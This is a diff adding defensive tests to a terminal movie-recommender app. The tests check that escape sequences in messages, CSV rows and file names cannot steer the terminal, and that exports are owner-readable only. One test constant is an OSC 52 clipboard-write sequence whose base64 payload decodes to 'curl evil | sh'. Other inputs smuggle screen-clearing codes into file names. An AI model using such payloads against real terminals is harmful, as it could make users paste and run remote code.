@@ -118,6 +118,31 @@ def test_choices_are_drawn_last_and_a_file_is_named() -> None:
     assert terminal.draw(reply).splitlines() == ["Here.", "It is in the file a.json.", "[more]   [why?]"]
 
 
+OSC_52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
+
+
+def test_nothing_that_comes_in_can_steer_the_terminal(typed: Type, tmp_path: Path) -> None:
+    """Escape sequences, also those that write to the clipboard, in messages, files, and the names of files."""
+    rows = [f"2020-01-01,{OSC_52}Nobody Knows It{number}\u202e,1995,x,5" for number in range(3)]
+    named = tmp_path / "here" / "ra\x1b[2Jtings.csv"
+    named.write_text("Date,Name,Year,Letterboxd URI,Rating\n" + "\n".join(rows), "utf-8")
+    out = typed(
+        f"I loved {OSC_52}Heat{OSC_52}",
+        f"a movie with \x9b2J{OSC_52} in it \u202e",
+        f"import {named.name}",
+        "import \x1b[31mnothing.csv",
+        f"recommend something with {OSC_52}",
+        "what do you know about me",
+    )
+    assert "Heat (1995)" in out and "Nobody Knows It0" in out and "nothing.csv" in out
+    assert not [c for c in out if not (c.isprintable() or c == "\n")]
+
+
+def test_an_export_can_be_read_by_its_owner_alone(typed: Type, tmp_path: Path) -> None:
+    typed("I loved Heat", "export")
+    assert (tmp_path / "here" / "matinee.json").stat().st_mode & 0o077 == 0
+
+
 def test_people_are_told_apart_by_name_up_to_case() -> None:
     assert terminal.person_called("Ana") == terminal.person_called("ana") != terminal.person_called("ben")
 
